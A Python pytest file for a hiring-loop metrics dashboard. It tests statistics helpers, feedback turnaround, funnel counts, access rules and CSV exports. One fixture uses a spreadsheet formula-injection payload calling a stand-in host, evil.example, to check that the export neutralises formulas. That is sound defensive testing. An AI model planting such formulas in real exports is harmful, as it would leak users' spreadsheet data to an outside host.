"""Input metrics and CSV exports: known answers on hand-built loops, the blind rule, access, CSV safety.

Each metric test builds a few loops with exact times relative to a fixed
`NOW`, computes the metrics as a given viewer, and compares with numbers
worked out by hand in the test.
"""

import csv
import io
from collections import Counter
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import event, select

from app.audit.services import record
from app.db_types import utcnow
from app.debrief.models import DebriefDecision, Outcome, Verdict
from app.extensions import db
from app.feedback.models import Feedback, FeedbackRating, FeedbackStatus, Rating, Vote
from app.interviews.models import InterviewKind
from app.loops.models import Loop, LoopStatus, Step
from app.metrics import tally
from app.metrics.exports import safe_cell
from app.metrics.scope import Filters, Scope
from app.metrics.services import Metrics
from app.metrics.stats import Distribution
from app.metrics.tally import kept
from app.people.models import User
from tests import factories

NOW = utcnow().replace(microsecond=0)
DAY, HOUR = timedelta(days=1), timedelta(hours=1)


def user(person) -> User:
    return db.session.get(User, person.id)


def metrics(viewer, now=NOW, **filters) -> Metrics:
    return Metrics(Scope(viewer, Filters(**filters), now))


def in_house(loop: Loop):
    return [i for i in loop.interviews if i.kind == InterviewKind.IN_HOUSE]


def phone(loop: Loop):
    return next(i for i in loop.interviews if i.kind == InterviewKind.PHONE_SCREEN)


def counted(interview) -> Feedback:
    return next(f for f in interview.feedbacks if not f.is_practice)


def last_end(loop: Loop):
    return max(i.ends_at for i in in_house(loop))


def submit(interview, vote: str, after: timedelta) -> Feedback:
    """Submit the interviewer's feedback `after` the interview ended (sealed feedback keeps its time for good)."""
    ratings = [FeedbackRating(principle=p, rating=Rating.MEETS_THE_BAR, evidence="Ran the migration.")
               for p in interview.principles]
    feedback = Feedback(author=interview.interviewer, summary="Specific.", ratings=ratings)
    db.session.add(feedback)
    feedback.interview = interview
    db.session.flush()
    feedback.status, feedback.vote, feedback.raises_bar = FeedbackStatus.SUBMITTED, vote, True
    feedback.submitted_at = interview.ends_at + after
    db.session.flush()
    return feedback


def decide(loop: Loop, outcome: str, verdict: str | None = None, at=NOW) -> DebriefDecision:
    decision = DebriefDecision(loop=loop, outcome=outcome, rationale="Decided.", decided_by=loop.hiring_manager,
                               decided_at=at)
    if verdict:
        decision.verdict, decision.verdict_rationale = verdict, "The bar raiser's call."
        decision.verdict_by, decision.verdict_at = loop.bar_raiser, at
    db.session.add(decision)
    db.session.flush()
    return decision


def close(loop: Loop, status: str, at=NOW) -> None:
    loop.status, loop.closed_at, loop.close_reason = status, at, "Closed by the test."
    db.session.flush()


# ---------- statistics ----------

def test_median_and_percentile_interpolate_between_ranks():
    def of(values):
        return Distribution.of(values)

    assert of([]).median() is None and of([]).percentile(90) is None and len(of([])) == 0
    assert of([5.0]).median() == 5.0 and of([5.0]).percentile(90) == 5.0
    assert of([4, 1, 3, 2]).median() == 2.5
    assert of([1, 2, 20]).percentile(90) == pytest.approx(16.4)
    assert of([1, 2, 3, 4]).percentile(90) == pytest.approx(3.7)
    assert of([1, 1, 1, 9]).median() == 1 and of([1, 9, 9, 9]).median() == 9
    assert of([3, 12, 12, 50]).bucket_counts((4, 12, 24)) == [1, 0, 2, 1]
    assert of([1, 2]) + of([2]) == of([1, 2, 2]) and list(of([2, 1, 2])) == [1, 2, 2]


@given(st.lists(st.integers(-50, 50), max_size=40), st.integers(0, 100))
def test_a_distribution_gives_what_the_list_of_every_value_gives(values, q):
    """The percentile of the values with how often each occurs, against ranks counted in the sorted list."""
    ordered = sorted(values)
    rank = (len(ordered) - 1) * q / 100
    expected = None
    if ordered:
        low, high = int(rank), -int(-rank // 1)
        expected = ordered[low] + (ordered[high] - ordered[low]) * (rank - low)
    got = Distribution.of(values).percentile(q)
    assert got == (None if expected is None else pytest.approx(expected))
    # Made from pairs in order, as the rollups store them (or out of order, which it sorts), it is the same.
    pairs = sorted(Counter(values).items())
    stored = [[value, n] for value, n in pairs]
    for made in (Distribution.of_stored(pairs), Distribution.of_stored(pairs[::-1]), Distribution.of_stored(stored),
                 Distribution.of_stored(stored[::-1])):
        assert made == Distribution.of(values) and len(made) == len(values)
        assert made.percentile(q) == got
        assert made.bucket_counts((-10, 0, 0.5, 10)) == [sum(1 for v in values if v < -10),
                                                         sum(1 for v in values if -10 <= v < 0),
                                                         sum(1 for v in values if 0 <= v < 0.5),
                                                         sum(1 for v in values if 0.5 <= v < 10),
                                                         sum(1 for v in values if v >= 10)]
        assert made.at_most(0) == sum(1 for v in values if v <= 0)


@given(st.lists(st.integers(-20, 20), max_size=30), st.lists(st.integers(-20, 20), max_size=30),
       st.integers(0, 100))
def test_two_distributions_added_give_what_both_lists_of_values_give(first, second, q):
    """A step's finished stays (from the rollups, in stored order) plus the open loops' current ones."""
    whole = Distribution.of(first + second)
    for left in (Distribution.of(first), Distribution.of_stored(sorted(Counter(first).items())),
                 Distribution.of_stored([[value, n] for value, n in sorted(Counter(first).items())])):
        added = left + Distribution.of(second)
        assert added == whole and len(added) == len(first) + len(second)
        assert added.percentile(q) == whole.percentile(q) and added.at_most(0) == whole.at_most(0)
        assert (Distribution.of(second) + left) == whole


@given(st.lists(st.integers(0, 40), max_size=40), st.lists(st.integers(0, 40), max_size=20),
       st.lists(st.integers(0, 40), max_size=20), st.integers(0, 100), st.sampled_from([(1, 1), (10**6, 3600)]),
       st.booleans())
def test_parts_added_and_taken_away_give_what_the_values_left_give(kept_values, taken, more, q, scale, packed):
    """A period read as all time less the months outside it: the values of all time (`kept_values` and `taken`, in
    two rows), less `taken`, plus `more` added and taken away again, read without merging the parts, each stored as
    pairs or packed."""
    per, unit = scale

    def stored(values):
        found = [[value, n] for value, n in sorted(Counter(values).items())]
        if not packed:
            return found
        before, tally.PACKED_FROM = tally.PACKED_FROM, 1
        try:
            made = tally.pack(found) if found else found
        finally:
            tally.PACKED_FROM = before
        assert isinstance(made, dict) or not found
        assert tally.pairs(made) == found
        return made

    whole = kept_values + taken
    made = Distribution.of_parts([(1, stored(whole[::2])), (1, stored(whole[1::2])), (-1, stored(taken)),
                                  (1, stored(more)), (-1, stored(more))], per, unit)
    expected = Distribution.of([value / per / unit for value in kept_values])
    assert made == expected and len(made) == len(kept_values)
    assert made.percentile(q) == expected.percentile(q) and made.median() == expected.median()
    edges = [edge / per / unit for edge in (0, 5, 20, 39)]
    assert made.bucket_counts(edges) == expected.bucket_counts(edges)
    assert made.at_most(20 / per / unit) == expected.at_most(20 / per / unit)
    assert made.stored_at_most(20) == sum(1 for value in kept_values if value <= 20)
    # The open loops' current stays added to the rollups' finished ones, in the same units and in others.
    assert made + Distribution.of(more, per, unit) == Distribution.of(kept_values + more, per, unit)
    assert (made + Distribution.of([value / per / unit for value in more])).percentile(q) == \
        Distribution.of([value / per / unit for value in kept_values + more]).percentile(q)


@given(st.integers(-(10**14), 10**14))
def test_a_kept_duration_is_within_half_a_percent_with_three_digits(us):
    assert abs(kept(us) - us) <= abs(us) * 0.005
    assert kept(kept(us)) == kept(us) and kept(-us) == -kept(us)
    assert len(str(abs(kept(us))).rstrip("0")) <= 3 or abs(us) < 1000


# ---------- empty and single ----------

def test_every_metric_is_empty_without_loops(app, recruiter):
    with app.app_context():
        m = metrics(user(recruiter))
        assert (m.turnaround.submitted, m.turnaround.median_hours, m.turnaround.on_time_share) == (0, None, None)
        assert m.late_feedback == [] and list(m.decision_time.days) == [] and m.decision_time.median_days is None
        assert all(not s.days and s.median_days is None and s.p90_days is None for s in m.step_times.steps)
        assert m.step_times.stalled == []
        assert (m.coverage.loops, m.coverage.covered, m.coverage.covered_share, m.coverage.principles) == (
            0, 0, None, [])
        assert m.bar_raisers == [] and m.org_units == [] and m.calibration == []
        assert m.funnel.total == 0 and all(c.count == 0 and c.share is None for c in m.funnel.outcomes)


def test_the_page_shows_empty_states_without_loops(client, auth, recruiter):
    auth.login(recruiter)
    response = client.get("/metrics?date_from=")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "No feedback has come due on these loops yet." in html
    assert "No feedback is past due." in html
    assert "metrics-chart__svg" not in html.split('id="turnaround"')[1].split("</section>")[0]


def test_a_single_decided_loop(app, recruiter):
    """One loop, hired: its phone screen and four in-house feedbacks, each two hours after the interview."""
    with app.app_context():
        loop = factories.make_loop(Step.DEBRIEF, recruiter=user(recruiter))
        decide(loop, Outcome.HIRE, Verdict.CONCUR, at=last_end(loop) + 2 * DAY)
        loop.step = Step.OFFER
        close(loop, LoopStatus.HIRED)
        m = metrics(user(recruiter))
        assert list(m.turnaround.hours) == [2.0] * 5
        assert (m.turnaround.median_hours, m.turnaround.on_time_share) == (2.0, 100.0)
        assert list(m.decision_time.days) == [pytest.approx(2.0, rel=0.005)] and m.decision_time.median_days == 2.0
        assert m.coverage.loops == m.coverage.covered == 1
        assert [(r.loops, r.open_loops, r.verdicts, r.vetoes, r.veto_rate) for r in m.bar_raisers] == [
            (1, 0, 1, 0, 0.0)]
        assert [c.count for c in m.funnel.steps] == [1] * 7
        assert {c.label: c.count for c in m.funnel.outcomes}["Hired"] == 1
        # The recruiter took no interview and the loop passed the debrief: its votes are readable.
        [row] = [r for r in m.calibration if r.interviewer.id == loop.bar_raiser_id]
        assert (len(row.votes), row.decided, row.matched, row.match_rate) == (1, 1, 1, 100.0)


# ---------- feedback turnaround and late feedback ----------

def test_turnaround_median_on_time_share_and_late_feedback(app, recruiter, shadow):
    with app.app_context():
        loop = factories.make_loop(Step.WRITTEN_FEEDBACK, recruiter=user(recruiter), shadow=user(shadow))
        panel = in_house(loop)
        for i, interview in enumerate(panel):
            interview.starts_at = NOW - 3 * DAY + i * HOUR  # 60 minutes each
        db.session.flush()
        submit(panel[0], Vote.INCLINED, after=1 * HOUR)
        submit(panel[1], Vote.INCLINED, after=30 * HOUR)
        # A shadow's practice feedback, however late, is never counted.
        db.session.add(Feedback(interview=panel[0], author=user(shadow), is_practice=True,
                                status=FeedbackStatus.SUBMITTED, vote=Vote.INCLINED, raises_bar=True,
                                submitted_at=panel[0].ends_at + 80 * HOUR))
        db.session.flush()
        m = metrics(user(recruiter))
        t = m.turnaround
        # The phone screen's feedback came 2 hours after the call.
        assert sorted(t.hours) == pytest.approx([1.0, 2.0, 30.0], rel=0.005)
        assert (t.median_hours, t.on_time, t.submitted, t.missing_late) == (2.0, 2, 3, 2)
        assert t.on_time_share == 40.0  # 2 on time of 3 submitted + 2 missing past due
        assert t.buckets == [("Under 4 hours", 2), ("4 to 12 hours", 0), ("12 to 24 hours", 0),
                             ("1 to 2 days", 1), ("Over 2 days", 0)]
        # Interview 2 ended at NOW - 3 days + 3 hours, due 24 hours later: 45 hours overdue.
        assert [(r.interviewer, r.hours_overdue) for r in m.late_feedback] == [
            (panel[2].interviewer.name, 45.0), (panel[3].interviewer.name, 44.0)]
        # Before the due time passes nothing is late.
        assert metrics(user(recruiter), now=NOW - 2 * DAY).late_feedback == []


def test_a_bar_raiser_sees_submission_times_only_of_loops_they_watch(app, bar_raiser):
    """Interviewing on a loop does not reveal who else submitted when; raising the bar on it does."""
    with app.app_context():
        me = user(bar_raiser)
        watched = factories.make_loop(Step.DEBRIEF, bar_raiser=me)
        factories.make_loop(Step.DEBRIEF, interviewers=[factories.make_user(certification="certified"), me,
                                                        factories.make_user(), factories.make_user()])
        assert metrics(me).turnaround.submitted == len(watched.interviews)  # phone screen + four in-house


# ---------- debrief lead time ----------

def test_time_from_last_in_house_interview_to_decision(app, recruiter):
    with app.app_context():
        hired = factories.make_loop(Step.DEBRIEF, recruiter=user(recruiter))
        decide(hired, Outcome.HIRE, Verdict.CONCUR, at=last_end(hired) + 2 * DAY)
        hired.step = Step.REFERENCE_CHECK
        no_hire = factories.make_loop(Step.DEBRIEF, recruiter=user(recruiter))
        decide(no_hire, Outcome.NO_HIRE, at=last_end(no_hire) + 5 * DAY)
        close(no_hire, LoopStatus.NOT_HIRED)
        factories.make_loop(Step.DEBRIEF, recruiter=user(recruiter))  # not decided yet
        d = metrics(user(recruiter)).decision_time
        assert sorted(d.days) == pytest.approx([2.0, 5.0], rel=0.005) and d.median_days == 3.5
        assert dict(d.buckets) == {"Under 1 day": 0, "1 to 2 days": 0, "2 to 4 days": 1, "4 to 7 days": 1,
                                   "7 days or more": 0}


# ---------- time in each step, stalled loops ----------

def advanced(loop: Loop, from_step: Step, to_step: Step, at) -> None:
    record("loop.advanced", loop, loop.recruiter, loop=loop, from_state=from_step.label, to_state=to_step.label,
           at=at)


def test_time_in_each_step_from_the_audit_trail_and_stalled_loops(app, recruiter):
    with app.app_context():
        me = user(recruiter)
        moving = factories.make_loop(Step.IN_HOUSE_INTERVIEWS, recruiter=me)
        moving.created_at, moving.step_entered_at = NOW - 10 * DAY, NOW - 5 * DAY
        advanced(moving, Step.RESUME_REVIEW, Step.PHONE_SCREEN, NOW - 8 * DAY)
        advanced(moving, Step.PHONE_SCREEN, Step.IN_HOUSE_INTERVIEWS, NOW - 5 * DAY)
        withdrawn = factories.make_loop(Step.PHONE_SCREEN, recruiter=me)
        withdrawn.created_at, withdrawn.step_entered_at = NOW - 4 * DAY, NOW - 3 * DAY
        advanced(withdrawn, Step.RESUME_REVIEW, Step.PHONE_SCREEN, NOW - 3 * DAY)
        close(withdrawn, LoopStatus.WITHDRAWN, at=NOW - 1 * DAY)
        waiting = factories.make_loop(Step.RESUME_REVIEW, recruiter=me)
        waiting.created_at = waiting.step_entered_at = NOW - 20 * DAY
        db.session.flush()

        times = metrics(me).step_times
        by_step = {s.step: s for s in times.steps}
        assert sorted(by_step[Step.RESUME_REVIEW].days) == pytest.approx([1.0, 2.0, 20.0], rel=0.005)
        assert (by_step[Step.RESUME_REVIEW].median_days, by_step[Step.RESUME_REVIEW].p90_days) == (2.0, 16.4)
        assert by_step[Step.RESUME_REVIEW].in_progress == 1
        assert sorted(by_step[Step.PHONE_SCREEN].days) == pytest.approx([2.0, 3.0], rel=0.005)
        assert (by_step[Step.PHONE_SCREEN].median_days, by_step[Step.PHONE_SCREEN].p90_days) == (2.5, 2.9)
        assert by_step[Step.PHONE_SCREEN].in_progress == 0  # the withdrawn loop left it when it closed
        in_house = by_step[Step.IN_HOUSE_INTERVIEWS]
        assert (list(in_house.days), in_house.in_progress) == ([5.0], 1)
        assert list(by_step[Step.OFFER].days) == []
        assert [(s.loop_id, s.days) for s in times.stalled] == [(waiting.id, 20.0)]

        app.config["STALLED_AFTER_DAYS"] = 4
        assert [s.loop_id for s in metrics(me).step_times.stalled] == [waiting.id, moving.id]


# ---------- principle coverage ----------

def test_principle_coverage_counts_loops_from_step_four_and_the_gaps(app, recruiter):
    with app.app_context():
        me = user(recruiter)
        full = factories.make_loop(Step.IN_HOUSE_INTERVIEWS, recruiter=me)  # four interviewers, one principle each
        br = factories.make_user(certification="certified")
        gappy = factories.make_loop(Step.WRITTEN_FEEDBACK, recruiter=me, bar_raiser=br,
                                    interviewers=[br, factories.make_user()])  # the first two principles only
        factories.make_loop(Step.PHONE_SCREEN, recruiter=me)  # not at step 4 yet: not counted
        db.session.flush()
        targets = [p.name for p in full.requisition.principles]
        c = metrics(me).coverage
        assert (c.loops, c.covered, c.covered_share) == (2, 1, 50.0)
        assert [(g.name, g.targeted, g.uncovered, g.uncovered_share) for g in c.principles][:2] == sorted(
            [(targets[2], 2, 1, 50.0), (targets[3], 2, 1, 50.0)])
        assert {g.name: g.uncovered for g in c.principles}[targets[0]] == 0
        assert gappy.id  # built for its gaps


# ---------- bar-raiser load, vetoes, funnel, outcomes ----------

@pytest.fixture
def staffed(app, recruiter, bar_raiser):
    """Four loops of one bar raiser (Payments) and one of another (Ads); returns their ids."""
    with app.app_context():
        me, br = user(recruiter), user(bar_raiser)
        payments = factories.make_user(org_unit="Payments")
        ads = factories.make_user(org_unit="Ads")
        other = factories.make_user(name="Otto Other", certification="certified", org_unit="Search")
        loops = {
            "interviews": factories.make_loop(Step.IN_HOUSE_INTERVIEWS, recruiter=me, hiring_manager=payments,
                                              bar_raiser=br),
            "feedback": factories.make_loop(Step.WRITTEN_FEEDBACK, recruiter=me, hiring_manager=payments,
                                            bar_raiser=br),
            "vetoed": factories.make_loop(Step.DEBRIEF, recruiter=me, hiring_manager=payments, bar_raiser=br,
                                          outcome=Outcome.HIRE, verdict=Verdict.VETO, status=LoopStatus.NOT_HIRED),
            "hired": factories.make_loop(Step.OFFER, recruiter=me, hiring_manager=payments, bar_raiser=br,
                                         status=LoopStatus.HIRED),
            "no_hire": factories.make_loop(Step.DEBRIEF, recruiter=me, hiring_manager=ads, bar_raiser=other,
                                           outcome=Outcome.NO_HIRE, status=LoopStatus.NOT_HIRED),
        }
        db.session.commit()
        return {name: loop.id for name, loop in loops.items()} | {"other": other.id, "ads": ads.org_unit_id}


def test_bar_raiser_load_and_veto_rates(app, recruiter, bar_raiser, staffed):
    with app.app_context():
        m = metrics(user(recruiter))
        assert [(r.name, r.loops, r.open_loops, r.verdicts, r.vetoes, r.veto_rate) for r in m.bar_raisers] == [
            ("Bea Raiser", 4, 2, 2, 1, 50.0), ("Otto Other", 1, 0, 0, 0, None)]
        assert [(r.name, r.loops, r.open_loops, r.verdicts, r.vetoes, r.veto_rate) for r in m.org_units] == [
            ("Payments", 4, 2, 2, 1, 50.0), ("Ads", 1, 0, 0, 0, None)]
        # Filtered to the other bar raiser, or to the Ads org unit, only the No-hire loop is left.
        for filters in ({"bar_raiser_id": staffed["other"]}, {"org_unit_id": staffed["ads"]}):
            assert [r.name for r in metrics(user(recruiter), **filters).bar_raisers] == ["Otto Other"]


def test_funnel_and_outcomes(app, recruiter, staffed):
    with app.app_context():
        f = metrics(user(recruiter)).funnel
        assert [(c.label, c.count) for c in f.steps] == [
            ("Résumé review", 5), ("Phone screen", 5), ("In-house interviews", 5), ("Written feedback", 4),
            ("Debrief", 3), ("Reference check", 1), ("Offer", 1)]
        assert f.steps[3].share == 80.0
        assert [(c.label, c.count) for c in f.outcomes] == [
            ("Hired", 1), ("Not hired", 1), ("Vetoed", 1), ("Rejected", 0), ("Withdrawn", 0), ("Open", 2)]


def test_dates_filter_on_loop_creation(app, recruiter, staffed):
    with app.app_context():
        old = db.session.get(Loop, staffed["interviews"])  # closed loops are read-only, so an open one
        old.created_at = NOW - 30 * DAY
        db.session.flush()
        recent = metrics(user(recruiter), created_from=NOW - 7 * DAY)
        assert recent.funnel.total == 4
        assert metrics(user(recruiter), created_before=NOW - 7 * DAY).funnel.total == 1


def test_a_bar_raiser_counts_only_the_loops_they_take_part_in(app, bar_raiser, staffed):
    with app.app_context():
        m = metrics(user(bar_raiser))
        assert m.funnel.total == 4
        assert [r.name for r in m.bar_raisers] == ["Bea Raiser"]


# ---------- interviewer calibration and the blind rule ----------

@pytest.fixture
def votes(app, recruiter, bar_raiser):
    """The bar raiser interviews on a loop in written feedback (not yet submitted) and raises the bar on a hired one."""
    with app.app_context():
        me, br = user(recruiter), user(bar_raiser)
        ann = factories.make_user(name="Ann Able")
        bo = factories.make_user(name="Bo Brook")
        pending = factories.make_loop(Step.WRITTEN_FEEDBACK, recruiter=me, bar_raiser=factories.make_user(
            certification="certified"), interviewers=[br, ann, bo])
        for interview in in_house(pending)[1:]:
            submit(interview, Vote.STRONGLY_NOT_INCLINED, after=HOUR)
        hired = factories.make_loop(Step.WRITTEN_FEEDBACK, recruiter=me, bar_raiser=br, interviewers=[br, ann, bo])
        for interview, vote in zip(in_house(hired), (Vote.INCLINED, Vote.INCLINED, Vote.NOT_INCLINED), strict=True):
            submit(interview, vote, after=HOUR)  # Bo voted against the hire
        decide(hired, Outcome.HIRE, Verdict.CONCUR)
        hired.step = Step.REFERENCE_CHECK
        factories.make_loop(Step.REFERENCE_CHECK, interviewers=[ann, factories.make_user(), factories.make_user()])
        db.session.commit()
        return {"ann": ann.id, "bo": bo.id, "pending": pending.id, "hired": hired.id,
                "pending_candidate": pending.candidate.name, "hired_candidate": hired.candidate.name,
                "br_interview": in_house(pending)[0].id}


def calibration_of(viewer) -> dict[str, tuple]:
    return {r.interviewer.name: (dict((v.name, n) for v, n in r.distribution.items() if n), r.decided, r.matched,
                                 r.match_rate) for r in metrics(viewer).calibration}


def test_calibration_counts_only_loops_whose_feedback_the_viewer_may_read(app, bar_raiser, recruiter, votes):
    with app.app_context():
        # The bar raiser has not submitted on the pending loop: its votes stay out; the third loop is not theirs.
        assert calibration_of(user(bar_raiser)) == {
            "Ann Able": ({"INCLINED": 1}, 1, 1, 100.0),
            "Bea Raiser": ({"INCLINED": 1}, 1, 1, 100.0),
            "Bo Brook": ({"NOT_INCLINED": 1}, 1, 0, 0.0),
        }
        # The recruiter took no interview; the pending loop has not reached the debrief.
        assert set(calibration_of(user(recruiter))) == {"Ann Able", "Bea Raiser", "Bo Brook"}
        assert calibration_of(user(recruiter))["Ann Able"][0] == {"INCLINED": 1}

        interview = next(i for i in db.session.get(Loop, votes["pending"]).interviews if i.id == votes["br_interview"])
        submit(interview, Vote.INCLINED, after=HOUR)
        assert calibration_of(user(bar_raiser))["Ann Able"] == ({"INCLINED": 1, "STRONGLY_NOT_INCLINED": 1}, 1, 1,
                                                                100.0)


def test_the_calibration_drill_down_keeps_the_blind_rule(client, auth, app, bar_raiser, votes):
    auth.login(bar_raiser)
    html = client.get(f"/metrics/interviewers/{votes['ann']}").get_data(as_text=True)
    assert votes["hired_candidate"] in html
    assert votes["pending_candidate"] not in html
    assert "Strongly not inclined" not in html
    rows = list(csv.reader(io.StringIO(client.get("/metrics/calibration.csv").get_data(as_text=True))))
    assert ["Ann Able", "0", "1", "0", "0", "1", "1", "1", "100.0"] in rows

    with app.app_context():
        interview = next(i for i in db.session.get(Loop, votes["pending"]).interviews if i.id == votes["br_interview"])
        submit(interview, Vote.INCLINED, after=HOUR)
        db.session.commit()
    html = client.get(f"/metrics/interviewers/{votes['ann']}").get_data(as_text=True)
    assert votes["pending_candidate"] in html and "Strongly not inclined" in html
    assert client.get("/metrics/interviewers/999999").status_code == 404


# ---------- access ----------

@pytest.mark.parametrize("path", ["/metrics?date_from=", "/metrics/funnel.csv", "/metrics/interviewers/1"])
def test_only_recruiters_admins_and_certified_bar_raisers_see_metrics(client, auth, path, interviewer,
                                                                      hiring_manager, shadow, recruiter, admin,
                                                                      bar_raiser):
    assert client.get(path).status_code == 302  # to the sign-in page
    for person in (interviewer, hiring_manager, shadow):
        auth.login(person)
        assert client.get(path).status_code == 403, person.email
        auth.logout()
    for person in (recruiter, admin, bar_raiser):
        auth.login(person)
        assert client.get(path).status_code in (200, 404), person.email  # 404: user 1 may not exist
        auth.logout()


def test_the_nav_links_metrics_for_those_who_may_see_it(client, auth, recruiter, interviewer):
    auth.login(interviewer)
    assert 'href="/metrics"' not in client.get("/").get_data(as_text=True)
    auth.logout()
    auth.login(recruiter)
    assert 'href="/metrics"' in client.get("/").get_data(as_text=True)


def test_bad_filters_answer_400_with_the_field_named(client, auth, recruiter):
    auth.login(recruiter)
    response = client.get("/metrics?date_from=2026-05-10&date_to=2026-05-01")
    assert response.status_code == 400
    assert "Choose an end date on or after the start date." in response.get_data(as_text=True)
    for query in ("org_unit=abc", "requisition=999999", "date_from=yesterday", "date_to=9999-12-31"):
        page = f"/metrics?{query}" if "date_from" in query else f"/metrics?date_from=&{query}"
        assert client.get(page).status_code == 400, query
        assert client.get(f"/metrics/funnel.csv?{query}").status_code == 400, query
    assert client.get("/metrics/nonsense.csv").status_code == 404


# ---------- the page ----------

def test_the_page_draws_svg_charts_with_tables_and_no_inline_style(client, auth, recruiter, staffed):
    auth.login(recruiter)
    response = client.get("/metrics?date_from=")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    funnel = html.split('id="funnel"')[1].split("</section>")[0]
    assert "<svg" in funnel and "<title" in funnel and "<table" in funnel
    assert "Loops that reached each step. 2. Résumé review: 5; 3. Phone screen: 5" in funnel
    assert "style=" not in html and "<script>" not in html
    assert 'href="/metrics/funnel.csv"' in html


@pytest.mark.parametrize("page", ["/metrics?date_from=", "/metrics/interviewers?date_from="])
def test_the_page_runs_the_same_number_of_queries_for_more_loops(app, client, auth, recruiter, page):
    with app.app_context():
        # One loop with feedback past due: the late list names its rows (two statements) only when it has some.
        for step in (Step.DEBRIEF, Step.WRITTEN_FEEDBACK):
            factories.make_loop(step, recruiter=user(recruiter))
        db.session.commit()
        engine = db.engine
    statements = []

    def count(*args):
        statements.append(1)

    auth.login(recruiter)
    client.get(page)
    event.listen(engine, "before_cursor_execute", count)
    try:
        client.get(page)
        few = len(statements)
        with app.app_context():
            for step in (Step.REFERENCE_CHECK, Step.WRITTEN_FEEDBACK, Step.OFFER):
                factories.make_loop(step, recruiter=user(recruiter))
            db.session.commit()
        statements.clear()
        client.get(page)
        assert len(statements) == few
    finally:
        event.remove(engine, "before_cursor_execute", count)


# ---------- CSV ----------

def parse(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_metrics_tables_download_as_csv_with_the_filters(client, auth, recruiter, staffed):
    auth.login(recruiter)
    response = client.get("/metrics/funnel.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="metrics-funnel.csv"'
    rows = parse(response)
    assert rows[0] == ["Step", "Loops that reached it", "Of all loops (%)"]
    assert rows[1:3] == [["2. Résumé review", "5", "100.0"], ["3. Phone screen", "5", "100.0"]]
    filtered = parse(client.get(f"/metrics/bar-raisers.csv?bar_raiser={staffed['other']}"))
    assert filtered == [["Bar raiser", "Open loops", "All loops", "Verdicts", "Vetoes", "Veto rate (%)"],
                        ["Otto Other", "0", "1", "0", "0", ""]]


def test_stalled_loops_link_to_their_pages_and_download(client, auth, app, recruiter):
    with app.app_context():
        loop = factories.make_loop(Step.PHONE_SCREEN, recruiter=user(recruiter))
        loop.step_entered_at = utcnow() - 9 * DAY
        db.session.commit()
        loop_id, name = loop.id, loop.candidate.name
    auth.login(recruiter)
    html = client.get("/metrics?date_from=").get_data(as_text=True)
    assert f'href="/loops/{loop_id}"' in html.split('id="stalled"')[1].split("</section>")[0]
    rows = parse(client.get("/metrics/stalled.csv"))
    assert rows[1][0] == name and rows[1][2] == "3. Phone screen" and rows[1][4] == "9.0"


@pytest.fixture
def exported(app, recruiter, interviewer):
    with app.app_context():
        me = user(recruiter)
        mine = factories.make_loop(Step.IN_HOUSE_INTERVIEWS, recruiter=me,
                                   interviewers=[factories.make_user(certification="certified"), user(interviewer),
                                                 factories.make_user(), factories.make_user()])
        mine.candidate.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        closed = factories.make_loop(Step.PHONE_SCREEN, recruiter=me, status=LoopStatus.REJECTED)
        theirs = factories.make_loop(Step.WRITTEN_FEEDBACK)  # the recruiter takes no part in it
        db.session.commit()
        return {"mine": mine.id, "closed": closed.id, "theirs": theirs.id}


def test_the_loops_csv_has_only_the_viewers_loops_with_the_list_filters(client, auth, recruiter, interviewer,
                                                                         exported):
    auth.login(recruiter)
    response = client.get("/loops/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="loops.csv"'
    rows = parse(response)
    assert rows[0] == ["id", "candidate", "requisition", "level", "org unit", "step", "status", "step since",
                       "days waiting", "recruiter", "hiring manager", "bar raiser"]
    assert [int(r[0]) for r in rows[1:]] == [exported["mine"]]  # open loops by default, like the list
    row = rows[1]
    assert row[5:7] == ["4. In-house interviews", "Open"] and row[8] == "0" and row[9] == "Rita Recruiter"
    every = parse(client.get("/loops/export.csv?status=all"))
    assert sorted(int(r[0]) for r in every[1:]) == sorted([exported["mine"], exported["closed"]])
    assert [r[8] for r in every[1:] if int(r[0]) == exported["closed"]] == [""]  # closed loops wait for nothing
    assert parse(client.get("/loops/export.csv?status=all&step=3"))[1][0] == str(exported["closed"])
    auth.logout()

    auth.login(interviewer)
    assert [int(r[0]) for r in parse(client.get("/loops/export.csv"))[1:]] == [exported["mine"]]
    body = client.get("/loops/export.csv").get_data(as_text=True)
    assert "Led the ledger migration" not in body  # never feedback content


def test_csv_cells_that_would_run_as_formulas_are_neutralised(client, auth, recruiter, exported):
    auth.login(recruiter)
    [_, row] = parse(client.get("/loops/export.csv"))
    assert row[1] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(risky) == "'" + risky
    assert (safe_cell("Ann"), safe_cell(-3.5), safe_cell(7), safe_cell(None)) == ("Ann", -3.5, 7, "")


def test_anonymous_visitors_are_sent_to_sign_in_for_the_loops_csv(client):
    assert client.get("/loops/export.csv").status_code == 302


def test_loops_of_the_csv_are_the_viewers_only_for_admins_too(client, auth, admin, exported):
    auth.login(admin)
    assert parse(client.get("/loops/export.csv?status=all")) == [parse(client.get("/loops/export.csv"))[0]]


def test_a_no_hire_is_not_a_veto(app, recruiter):
    with app.app_context():
        loop = factories.make_loop(Step.DEBRIEF, recruiter=user(recruiter))
        decide(loop, Outcome.NO_HIRE)
        close(loop, LoopStatus.NOT_HIRED)
        outcomes = {c.label: c.count for c in metrics(user(recruiter)).funnel.outcomes}
        assert (outcomes["Not hired"], outcomes["Vetoed"]) == (1, 0)
        assert db.session.scalar(select(DebriefDecision.verdict).where(DebriefDecision.loop_id == loop.id)) is None


def test_a_first_visit_opens_on_the_last_twelve_months(app, client, auth, recruiter):
    """This month and the eleven before it, from the first day: the whole months the rollups hold."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from app.metrics.views import twelve_months_from

    with app.app_context():
        zone = ZoneInfo(user(recruiter).timezone or "UTC")  # the viewer's today, not the server's
    auth.login(recruiter)
    response = client.get("/metrics")
    assert response.status_code == 302
    assert f"date_from={twelve_months_from(datetime.now(zone))}" in response.headers["Location"]
